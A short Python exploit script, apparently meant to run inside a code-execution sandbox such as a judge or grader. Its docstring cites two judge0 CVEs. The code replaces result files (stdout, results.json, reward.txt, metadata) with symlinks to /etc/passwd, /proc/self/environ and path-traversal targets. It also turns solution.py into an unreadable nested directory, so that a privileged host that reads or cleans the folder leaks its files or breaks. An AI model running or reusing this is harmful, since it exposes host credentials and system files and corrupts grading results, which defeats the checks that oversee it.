"""Leave links in the place of result files, and a folder in the place of its own source.

Why: a host that cleans or reads the folder as a stronger user follows them out.
Seen: judge0 CVE-2024-28185 and CVE-2024-28189 (links in the box followed by the host)
"""

import os

for name in ("stdout", "stdout.txt", "output.txt", "results.json", "reward.txt", "metadata"):
    for target in ("/etc/passwd", "/proc/self/environ", "../../../../../../etc/passwd"):
        try:
            os.symlink(target, name)
            break
        except OSError:
            continue
try:
    os.remove("solution.py")
    os.makedirs("solution.py/a/b")
    os.chmod("solution.py", 0)
except OSError:
    pass
